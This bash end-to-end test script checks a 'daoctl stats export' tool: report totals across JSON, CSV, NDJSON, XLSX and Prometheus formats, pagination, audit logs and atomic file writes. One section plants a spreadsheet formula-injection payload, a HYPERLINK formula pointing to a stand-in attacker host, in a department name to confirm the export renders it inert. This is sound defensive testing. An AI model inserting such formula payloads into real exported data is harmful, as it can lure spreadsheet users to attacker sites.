#!/usr/bin/env bash
# stats export against a seeded daoctl-sim: totals equal the seed's own sums,
# every format parses with an independent reader (python3 csv/json, unzip and
# the sheet XML), a formula in a display name comes out inert, live logins
# are counted, -O is atomic, and the audit log shows admin actions.
source "$(dirname "$0")/lib.sh"

"$DAOCTL_SIM_BIN" seed --data "$E2E_DIR/sim" --users 300 --departments 15 --activity-days 60 \
  >/dev/null 2>"$E2E_DIR/seed.err" || failed "seed with activity" "$(cat "$E2E_DIR/seed.err")"
SEED_LINE=$(grep 'seeded activity' "$E2E_DIR/seed.err")
seed_total() { printf '%s' "$SEED_LINE" | grep -Eo " $1=[0-9]+" | cut -d= -f2; }
start_sim

RANGE=(--from 2025-01-01 --to 2025-03-02)  # the 60 seeded days
D=$DAOCTL_BIN

# --- activity: JSON totals (jq) == seed totals; CSV totals (python csv) == JSON
check "activity as json" "$D" stats export activity "${RANGE[@]}" --group-by user --format json -O "$E2E_DIR/a.json"
for k in logins posts comments reactions views; do
  expect_eq "json $k total equals the seed" "$(jq "[.rows[].$k] | add" "$E2E_DIR/a.json")" "$(seed_total $k)"
done
expect_eq "json rows per user-day equal the seed's rows" "$(jq '.rows | length' "$E2E_DIR/a.json")" "$(seed_total rows)"
expect_eq "json states the time zone" "$(jq -r .time_zone "$E2E_DIR/a.json")" "UTC"

check "activity as csv" "$D" stats export activity "${RANGE[@]}" --group-by department --granularity week -O "$E2E_DIR/a.csv"
CSV_SUMS=$(python3 - "$E2E_DIR/a.csv" <<'EOF'
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    rows = list(csv.DictReader(f))
print(' '.join(str(sum(int(r[k]) for r in rows)) for k in ('logins', 'posts', 'comments', 'reactions', 'views')))
assert all(r['period_start (UTC)'].endswith('Z') for r in rows)
EOF
)
expect_eq "csv (python csv) totals equal the seed" "$CSV_SUMS" \
  "$(seed_total logins) $(seed_total posts) $(seed_total comments) $(seed_total reactions) $(seed_total views)"

check "activity as ndjson, monthly" "$D" stats export activity "${RANGE[@]}" --granularity month --format ndjson
# 2025-01-01 .. 2025-03-02 (exclusive) is January, February and 1 March.
expect_eq "ndjson: one row per month" "$(printf '%s\n' "$OUT" | python3 -c 'import sys,json; print(len([json.loads(l) for l in sys.stdin if l.strip()]))')" "3"
expect_eq "ndjson monthly logins equal the seed" "$(printf '%s\n' "$OUT" | jq -s '[.[].logins] | add')" "$(seed_total logins)"

# Daily active users summed over days equal the (day, user) rows.
check "activity per day" "$D" stats export activity "${RANGE[@]}" --format json
expect_eq "sum of DAU equals the seeded user-days" "$(printf '%s' "$OUT" | jq '[.rows[].active_users] | add')" "$(seed_total rows)"

# --- events: invitations and RSVPs
check "events as json" "$D" stats export events "${RANGE[@]}" --format json
expect_eq "events counted" "$(printf '%s' "$OUT" | jq '.rows | length')" "$(seed_total events)"
expect_eq "going total" "$(printf '%s' "$OUT" | jq '[.rows[].going] | add')" "$(seed_total going)"
expect_eq "pending total" "$(printf '%s' "$OUT" | jq '[.rows[].pending] | add')" "$(seed_total pending)"

# --- badges awarded: the seed's awards in every granularity, CSV and NDJSON
for g in day week month; do
  check "awards per $g as json" "$D" stats export awards "${RANGE[@]}" --granularity "$g" --format json
  expect_eq "awards per $g add up to the seed" "$(printf '%s' "$OUT" | jq '[.rows[].awarded] | add')" "$(seed_total awards)"
done
expect_eq "awards json states its granularity" "$(printf '%s' "$OUT" | jq -r .granularity)" "month"
check "awards as csv, 1 row a page" "$D" stats export awards "${RANGE[@]}" --granularity week --page-size 1 -O "$E2E_DIR/awards.csv"
AWARDS_CSV=$(python3 - "$E2E_DIR/awards.csv" <<'EOF'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
keys = [(r['period_start (UTC)'], int(r['badge_id'])) for r in rows]
print(sum(int(r['awarded']) for r in rows), keys == sorted(keys) and len(set(keys)) == len(keys))
EOF
)
expect_eq "csv awards (python csv) add up to the seed, rows once each in (period, badge) order" "$AWARDS_CSV" "$(seed_total awards) True"
check "awards, first page of one row" "$D" api GET '/api/v1/stats/awards?from=2025-01-01&to=2025-03-02&limit=1'
CURSOR=$(printf '%s' "$OUT" | jq -r .next_cursor)
check "awards, second page by its cursor" "$D" api GET "/api/v1/stats/awards?from=2025-01-01&to=2025-03-02&limit=1&cursor=$CURSOR"
check "activity, first page of one row" "$D" api GET '/api/v1/stats/activity?from=2025-01-01&to=2025-03-02&limit=1'
expect_exit 1 "an activity cursor is refused by /stats/awards" "$D" api GET \
  "/api/v1/stats/awards?from=2025-01-01&to=2025-03-02&cursor=$(printf '%s' "$OUT" | jq -r .next_cursor)"
expect_match "the refusal names the cursor" "$ERR" 'was not issued by this server for this query'
expect_exit 1 "granularity year is refused" "$D" api GET '/api/v1/stats/awards?from=2025-01-01&to=2025-03-02&granularity=year'
expect_exit 1 "to before from is refused" "$D" api GET '/api/v1/stats/awards?from=2025-03-02&to=2025-01-01'
expect_exit 1 "from is required" "$D" api GET '/api/v1/stats/awards?to=2025-01-01'
check "awards as ndjson" "$D" stats export awards "${RANGE[@]}" --format ndjson
expect_eq "ndjson awards carry the seeded badge names" "$(printf '%s\n' "$OUT" | jq -sc '[.[].badge_name] | unique | length')" "$(seed_total badges)"

# --- formula injection: a root department (its path is its name) named
# =HYPERLINK(...) with a logged-in member
EVIL='=HYPERLINK("http:evil.example?x","click")'
check "create a department with a formula name" "$D" api POST /api/v1/departments -d "$(jq -cn --arg n "$EVIL" '{name: $n}')"
EVIL_ID=$(printf '%s' "$OUT" | jq -r .id)
check "move user 7 into it" "$D" api PATCH "/scim/v2/Users/7" -d "{\"schemas\":[\"urn:ietf:params:scim:api:messages:2.0:PatchOp\"],\"Operations\":[{\"op\":\"replace\",\"path\":\"urn:daoffice:scim:schemas:extension:profile:1.0:User:departmentId\",\"value\":\"$EVIL_ID\"}]}"
TODAY=$(date -u +%F)
TOMORROW=$(date -u -d tomorrow +%F)
check "a live login (session)" "$D" api POST /api/v1/users/7/sessions -d '{"client":"e2e"}'
check "second live login" "$D" api POST /api/v1/users/7/sessions -d '{"client":"e2e"}'
check "today's activity as csv" "$D" stats export activity --from "$TODAY" --to "$TOMORROW" --group-by department -O "$E2E_DIR/evil.csv"
EVIL_CELL=$(python3 - "$E2E_DIR/evil.csv" <<'EOF'
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    for r in csv.DictReader(f):
        if 'HYPERLINK' in r['department']:
            print(r['department'][:1], r['logins'])
EOF
)
expect_eq "the formula cell starts with an apostrophe and the logins are counted" "$EVIL_CELL" "' 2"

check "today's activity as xlsx" "$D" stats export activity --from "$TODAY" --to "$TOMORROW" --group-by department -O "$E2E_DIR/evil.xlsx"
check "xlsx passes unzip -t" unzip -t "$E2E_DIR/evil.xlsx"
SHEET=$(unzip -p "$E2E_DIR/evil.xlsx" xl/worksheets/sheet1.xml)
expect_match "xlsx holds the name as an inline string" "$SHEET" 'inlineStr"><is><t>=HYPERLINK\('
expect_no_match "xlsx holds no formula" "$SHEET" '<f>'
expect_match "xlsx logins are a number cell" "$SHEET" '<c r="F2"( s="[0-9]+")?><v>2</v>'

# --- several reports in one workbook; totals read back from the sheet XML
check "workbook with four sheets" "$D" stats export activity events audit awards "${RANGE[@]}" --format xlsx -O "$E2E_DIR/all.xlsx"
expect_eq "four sheets" "$(unzip -l "$E2E_DIR/all.xlsx" | grep -c 'xl/worksheets/sheet[0-9]*.xml')" "4"
XLSX_AWARDS=$(unzip -p "$E2E_DIR/all.xlsx" xl/worksheets/sheet4.xml | python3 -c '
import re, sys
xml = sys.stdin.read()
print(sum(int(float(v)) for v in re.findall(r"<c r=\"E\d+\"[^>]*><v>([^<]+)</v>", xml)))')
expect_eq "xlsx awarded column adds up to the seed" "$XLSX_AWARDS" "$(seed_total awards)"
XLSX_LOGINS=$(unzip -p "$E2E_DIR/all.xlsx" xl/worksheets/sheet1.xml | python3 -c '
import re, sys
xml = sys.stdin.read()
print(sum(int(float(v)) for v in re.findall(r"<c r=\"D\d+\"[^>]*><v>([^<]+)</v>", xml)))')
expect_eq "xlsx logins column adds up to the seed" "$XLSX_LOGINS" "$(seed_total logins)"

# --- Prometheus text exposition
check "prometheus" "$D" stats export activity events --from "$TODAY" --to "$TOMORROW" --format prometheus
expect_match "info names the time zone" "$OUT" 'daoffice_stats_export_info\{report="activity".*time_zone="UTC"'
expect_match "logins sample" "$OUT" 'daoffice_activity_logins\{granularity="day",period="'"$TODAY"'"\} 2'
expect_eq "one TYPE line per family" "$(printf '%s\n' "$OUT" | grep -c '^# TYPE')" "13"
PROM_OK=$(printf '%s\n' "$OUT" | python3 -c '
import re, sys
ok = all(re.match(r"^(# (HELP|TYPE) \S+ .*|[a-z_]+(\{.*\})? -?[0-9]+)$", l) for l in sys.stdin.read().splitlines())
print(ok)')
expect_eq "every line is valid exposition syntax" "$PROM_OK" "True"

check "prometheus awards" "$D" stats export awards "${RANGE[@]}" --granularity month --format prometheus
expect_eq "awards samples add up to the seed" "$(printf '%s\n' "$OUT" | awk '/^daoffice_badges_awarded\{/ {s += $NF} END {print s}')" "$(seed_total awards)"
expect_match "awards samples name the badge" "$OUT" 'daoffice_badges_awarded\{granularity="month",period="2025-01",badge_id="1",badge_name="Helping hand"\} [0-9]+'

# --- audit log: live admin actions appear
check "audit as ndjson" "$D" stats export audit --since 1h --format ndjson
expect_match "department.create recorded" "$OUT" '"action":"department.create"'
expect_eq "user.update of user 7 recorded" "$(printf '%s\n' "$OUT" | jq -r 'select(.action == "user.update") | .object_id')" "7"
check "audit filtered by action" "$D" stats export audit --from 2025-01-01 --to 2025-03-02 --action user.block --format json
expect_eq "only user.block rows" "$(printf '%s' "$OUT" | jq -c '[.rows[].action] | unique')" '["user.block"]'

# --- -O is atomic: a failing export leaves the previous file untouched
echo "previous" >"$E2E_DIR/keep.csv"
expect_exit 4 "wrong token fails" env DAOCTL_TOKEN=wrong "$D" stats export activity --since 7d -O "$E2E_DIR/keep.csv"
expect_eq "the previous file is intact" "$(cat "$E2E_DIR/keep.csv")" "previous"
expect_eq "no temporary file left" "$(ls -A "$E2E_DIR" | grep -c '^\.keep\.csv\.tmp')" "0"

# --- usage errors
expect_exit 2 "several reports as csv" "$D" stats export activity events --format csv
expect_exit 2 "bad range" "$D" stats export activity --from 2025-02-01 --to 2025-01-01
expect_exit 2 "bad since" "$D" stats export activity --since soon
expect_exit 2 "unknown report" "$D" stats export logins

finish
